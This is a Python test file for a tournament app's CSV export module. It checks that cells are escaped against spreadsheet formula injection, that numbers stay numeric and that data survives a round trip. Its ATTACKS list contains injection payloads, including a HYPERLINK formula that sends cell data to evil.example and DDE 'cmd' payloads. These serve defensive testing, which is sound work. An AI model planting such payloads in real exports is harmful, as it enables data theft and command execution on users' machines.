"""The one CSV writer: no cell of any export runs as a formula in a spreadsheet, numbers stay
numbers, separators are quoted, and what an import reads back is what was written."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kaiser_club.spreadsheet import FORMULA_STARTS, cell, csv_text, from_cell, line
from tests.tournaments.public.world import hall, results

REPO = Path(__file__).resolve().parents[2]
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_is_written_as_text(text: str) -> None:
    assert cell(text) == "'" + text
    assert from_cell(cell(text)) == text


@pytest.mark.parametrize("value", [-12, 3.5, "-12", "+3.5", "0", "-0.25", "1e5", "66.7%"])
def test_numbers_stay_numbers(value: object) -> None:
    assert cell(value) == str(value)


def test_an_apostrophe_already_there_survives_the_round_trip() -> None:
    assert cell("'=1") == "''=1"
    assert from_cell(cell("'=1")) == "'=1"
    assert cell("'Tis the Aces") == "'Tis the Aces"


def test_a_separator_a_spreadsheet_may_split_on_is_quoted() -> None:
    assert line(["Aces;=1+1", "a,b", 'say "hi"', "plain", None, 4]) == (
        '"Aces;=1+1","a,b","say ""hi""",plain,,4\r\n'
    )


def is_number(text: str) -> bool:
    return re.match(r"^[+-]?(\d|[.,]\d)", text) is not None


@given(st.lists(st.lists(st.text(min_size=1, max_size=12), min_size=1, max_size=4), max_size=4))
def test_whatever_the_text_a_reader_gets_it_back_and_no_cell_starts_a_formula(
    rows: list[list[str]],
) -> None:
    read = list(csv.reader(io.StringIO(csv_text(rows), newline="")))
    assert [[from_cell(c) for c in r] for r in read] == rows
    for r in read:
        for c in r:
            assert not c.startswith(FORMULA_STARTS) or is_number(c), c


def test_no_code_writes_csv_but_through_the_one_writer() -> None:
    sources = [
        path
        for app in ("kaiser_club", "scoring", "tournaments")
        for path in (REPO / app).glob("**/*.py")
        if path.name != "spreadsheet.py"
    ]
    found = [
        str(path.relative_to(REPO))
        for path in sources
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text(encoding="utf-8"))
    ]
    assert found == [], "write CSV with kaiser_club.spreadsheet, which makes formulas text"


@pytest.mark.django_db
def test_the_public_standings_csv_makes_team_names_text(client: Any) -> None:
    names = [ATTACKS[0], ATTACKS[1], "Aces;=1+1", "@SUM(1+1)"]
    made = hall(names, format="round_robin")
    results(made, [(names[0], names[1], 52, 30), (names[2], names[3], 52, 40)], round=1)
    answer = client.get(f"/e/{made.event.id}/standings.csv")
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(answer.content.decode(), newline="")))
    assert sorted(row[1] for row in rows[1:]) == sorted(
        ["'" + names[0], "'" + names[1], "Aces;=1+1", "'" + names[3]]
    )
    assert '"Aces;=1+1"' in answer.content.decode()  # quoted: not split on ";"
    for row in rows[1:]:
        for value in row:
            assert not value.startswith(FORMULA_STARTS) or is_number(value), row
